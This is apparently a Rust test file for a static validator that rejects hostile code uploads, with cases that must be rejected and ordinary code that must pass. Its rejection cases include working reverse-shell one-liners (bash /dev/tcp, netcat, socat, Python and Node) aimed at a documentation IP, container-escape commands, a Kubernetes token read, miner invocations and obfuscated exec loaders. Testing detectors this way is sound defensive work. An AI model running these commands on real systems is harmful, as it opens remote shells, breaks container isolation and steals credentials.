//! The static rules: the corpus of sample functions, one snippet per rule,
//! and ordinary code that must pass.

use sless_codecheck::{CheckError, Decision, Outcome, SourceFile};

use crate::support::{corpus, static_validator};

/// Runs the static check on `files` and returns the rejection message.
async fn rejection(files: &[SourceFile]) -> String {
    let (validator, metrics) = static_validator();
    let err = validator.check(files).await.expect_err("static rules reject");
    assert_eq!(metrics.count(Decision::RuleHit), 1);
    assert_eq!(metrics.count(Decision::StaticPassed), 0);
    match &err {
        CheckError::Rejected { message } => {
            assert_eq!(err.to_string(), format!("code validation failed: {message}"));
            message.clone()
        }
        other => panic!("expected a rejection, got {other:?}"),
    }
}

async fn assert_passes(files: &[SourceFile]) {
    let (validator, metrics) = static_validator();
    let outcome = validator.check(files).await;
    assert_eq!(
        outcome,
        Ok(Outcome::Passed {
            summary: "passed: static".to_owned()
        }),
        "files {:?}",
        files.iter().map(|f| &f.path).collect::<Vec<_>>()
    );
    assert_eq!(metrics.count(Decision::StaticPassed), 1);
    assert_eq!(metrics.count(Decision::RuleHit), 0);
}

/// Asserts `<rule>: <reason> (<file>:<line>)`.
fn assert_hit(message: &str, rule: &str, file: &str, line: usize) {
    assert!(
        message.starts_with(&format!("{rule}: ")),
        "expected rule {rule}, got {message:?}"
    );
    assert!(
        message.ends_with(&format!(" ({file}:{line})")),
        "expected place {file}:{line}, got {message:?}"
    );
}

#[tokio::test]
async fn hostile_corpus_is_rejected_with_rule_and_place() {
    let cases = [
        ("python/miner.py", "mining-pool-url", 5),
        ("python/reverse_shell.py", "reverse-shell-python", 10),
        ("python/host_escape.py", "host-proc-access", 5),
        ("python/obfuscated_eval.py", "obfuscated-exec", 8),
        ("node/miner.js", "mining-pool-url", 4),
        ("node/reverse_shell.js", "reverse-shell-node", 9),
        ("node/host_escape.js", "container-runtime-socket", 7),
        ("node/obfuscated_eval.js", "obfuscated-exec", 6),
    ];
    for (path, rule, line) in cases {
        let message = rejection(&[corpus(path)]).await;
        assert_hit(&message, rule, path, line);
    }
}

#[tokio::test]
async fn reasons_say_what_was_found() {
    let message = rejection(&[corpus("python/miner.py")]).await;
    assert_eq!(
        message,
        "mining-pool-url: connects to a cryptocurrency mining pool (stratum URL) (python/miner.py:5)"
    );
}

#[tokio::test]
async fn innocent_corpus_passes() {
    for path in [
        "python/data_mining.py",
        "python/base64_subprocess.py",
        "python/prompt_injection.py",
        "node/data_mining.js",
        "node/base64_child_process.js",
    ] {
        assert_passes(&[corpus(path)]).await;
    }
}

#[tokio::test]
async fn one_hostile_file_among_innocent_ones_is_found() {
    let files = [
        corpus("python/data_mining.py"),
        corpus("node/reverse_shell.js"),
        corpus("python/base64_subprocess.py"),
    ];
    let message = rejection(&files).await;
    assert_hit(&message, "reverse-shell-node", "node/reverse_shell.js", 9);
}

#[tokio::test]
async fn first_hit_in_path_order_is_reported_whatever_the_upload_order() {
    let files = [corpus("python/miner.py"), corpus("node/host_escape.js")];
    let reversed = [files[1].clone(), files[0].clone()];
    let first = rejection(&files).await;
    assert_eq!(first, rejection(&reversed).await);
    assert_hit(&first, "container-runtime-socket", "node/host_escape.js", 7);
}

fn blob() -> String {
    "QUJDRGFiY2QxMjM0".repeat(20)
}

#[tokio::test]
async fn every_rule_has_a_matching_snippet() {
    let cases: Vec<(&str, String, &str, usize)> = vec![
        ("run.sh", "#!/bin/sh\n./miner -o stratum+tcp://pool.example.net:3333\n".into(), "mining-pool-url", 2),
        ("config.json", "{\n  \"pool\": \"gulf.moneroocean.stream:10128\"\n}\n".into(), "mining-pool-host", 2),
        ("start.py", "import os\nos.system('./XMRig --threads 2')\n".into(), "miner-software", 2),
        ("start.js", "// start\nrequire('child_process').exec('./run --donate-level 1');\n".into(), "miner-software", 2),
        ("shell.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".into(), "reverse-shell-dev-tcp", 2),
        ("nc.sh", "nc -e /bin/sh 203.0.113.7 4444\n".into(), "reverse-shell-netcat", 1),
        ("nc.py", "import subprocess\nsubprocess.call([\"ncat\", \"203.0.113.7\", \"4444\", \"-e\", \"/bin/bash\"])\n".into(), "reverse-shell-netcat", 2),
        ("fifo.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n".into(), "reverse-shell-netcat", 1),
        ("socat.sh", "socat tcp:203.0.113.7:4444 exec:'bash -li',pty,stderr\n".into(), "reverse-shell-socat", 1),
        (
            "one_liner.py",
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])\n".into(),
            "reverse-shell-python",
            2,
        ),
        (
            "sock.ts",
            "import * as net from 'net';\nimport { spawn } from 'child_process';\nconst sh = spawn(`bash`, ['-i']);\nconst c = net.connect(4444, '203.0.113.7');\nc.on('data', (d) => sh.stdin.write(d));\n".into(),
            "reverse-shell-node",
            5,
        ),
        ("ns.py", "import os\nos.system('nsenter --target 1 --mount --uts --ipc --net --pid -- bash')\n".into(), "host-namespace-enter", 2),
        ("mnt.sh", "mkdir /mnt/host\nmount /dev/sda1 /mnt/host\n".into(), "host-fs-mount", 2),
        ("chroot.sh", "chroot /host /bin/bash\n".into(), "host-fs-mount", 1),
        ("cg.sh", "mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp\n".into(), "host-fs-mount", 1),
        ("agent.py", "open('/tmp/cgrp/x/notify_on_release', 'w').write('1')\n".into(), "cgroup-release-agent", 1),
        ("core.py", "\nopen('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')\n".into(), "host-proc-access", 2),
        ("containerd.go", "package main\n\nconst sock = \"/run/containerd/containerd.sock\"\n".into(), "container-runtime-socket", 3),
        ("token.py", "TOKEN = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n".into(), "k8s-service-account-token", 1),
        (
            "indirect.py",
            format!("import zlib, base64\nDATA = '{}'\ncode = zlib.decompress(base64.b64decode(DATA))\nexec(code)\n", blob()),
            "obfuscated-exec",
            4,
        ),
        (
            "fn.js",
            format!("const d = '{}';\nconst body = atob(d);\nnew Function(body)();\n", blob()),
            "obfuscated-exec",
            3,
        ),
        (
            "hex.py",
            format!("exec(bytes.fromhex('{}').decode())\n", "7072696e74".repeat(50)),
            "obfuscated-exec",
            1,
        ),
        ("flood.py", "def syn_flood(target):\n    pass\n".into(), "ddos-tool", 1),
        ("slow.js", "// slowloris keeps sockets open\n".into(), "ddos-tool", 1),
        ("raw.py", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\n".into(), "raw-socket", 2),
        ("scan.py", "import nmap\nnm = nmap.PortScanner()\n".into(), "port-scanner", 1),
        ("scan.sh", "masscan 10.0.0.0/8 -p0-65535 --rate 100000\n".into(), "port-scanner", 1),
        (
            "scan_loop.py",
            "import socket\nfor port in range(1, 65536):\n    s = socket.socket()\n    if s.connect_ex(('203.0.113.7', port)) == 0:\n        print(port)\n".into(),
            "port-scan-loop",
            2,
        ),
        (
            "scan_loop.js",
            "const net = require('net');\nfor (let p = 1; p <= 65535; p++) {\n  net.connect(p, '203.0.113.7').on('connect', () => console.log(p));\n}\n".into(),
            "port-scan-loop",
            2,
        ),
    ];
    for (path, contents, rule, line) in cases {
        let message = rejection(&[SourceFile::new(path, contents)]).await;
        assert_hit(&message, rule, path, line);
    }
}

#[tokio::test]
async fn ordinary_code_passes() {
    let image = blob();
    let cases: Vec<(&str, String)> = vec![
        (
            "train.py",
            "model.eval()\nwith torch.no_grad():\n    out = model(x)\n".into(),
        ),
        (
            "db.py",
            "def valid_port(port):\n    return 0 < port <= 65535\n\nconn = db.connect(DSN)\n".into(),
        ),
        (
            "image.py",
            format!(
                "import base64\nLOGO = '{image}'\n\ndef handle(event, context):\n    return base64.b64decode(LOGO)\n"
            ),
        ),
        (
            "calc.js",
            "// evaluates arithmetic from a trusted admin form\nexports.handle = (e) => ({ r: eval(e.expr) });\n"
                .into(),
        ),
        (
            "authors.txt",
            "Loic Dupont\nZoe Mining-Smith\nnc: see the networking chapter\n".into(),
        ),
        (
            "git.js",
            "const { exec } = require('child_process');\nexec('git status', (err, out) => console.log(out));\n".into(),
        ),
        (
            "shell.py",
            "import subprocess\nsubprocess.run(['sh', '-c', 'echo hello'], check=True)\n".into(),
        ),
        (
            "proc.py",
            "open('/proc/self/status').read()\nopen('/proc/meminfo').read()\n".into(),
        ),
        (
            "sock.py",
            "import socket\ns = socket.create_connection(('example.org', 443))\ns.sendall(b'ping')\n".into(),
        ),
    ];
    for (path, contents) in cases {
        assert_passes(&[SourceFile::new(path, contents)]).await;
    }
}

#[tokio::test]
async fn binaries_are_scanned_for_miner_signatures_only() {
    let mut miner = b"\x7fELF\x02\x01\x01\x00\x00\x00".to_vec();
    miner.extend_from_slice(b"\x00\x00usage: xmrig [OPTIONS]\x00");
    let message = rejection(&[SourceFile::new("bin/helper", miner)]).await;
    assert_hit(&message, "miner-software", "bin/helper", 1);

    let mut library = b"\x7fELF\x02\x01\x01\x00".to_vec();
    library.extend_from_slice(b"\x00/proc/1/root\x00/var/run/docker.sock\x00nsenter\x00");
    assert_passes(&[SourceFile::new("lib/native.so", library)]).await;
}

#[tokio::test]
async fn non_utf8_text_is_still_scanned() {
    let mut latin1 = b"# caf\xe9\n".to_vec();
    latin1.extend_from_slice(b"open('/proc/1/root/etc/hostname')\n");
    let message = rejection(&[SourceFile::new("legacy.py", latin1)]).await;
    assert_hit(&message, "host-proc-access", "legacy.py", 2);
}

#[tokio::test]
async fn node_modules_are_scanned_too() {
    let files = [
        corpus("node/data_mining.js"),
        SourceFile::new(
            "node_modules/helper/index.js",
            "module.exports = 'stratum+tcp://pool.example.net:3333';\n",
        ),
    ];
    let message = rejection(&files).await;
    assert_hit(&message, "mining-pool-url", "node_modules/helper/index.js", 1);
}
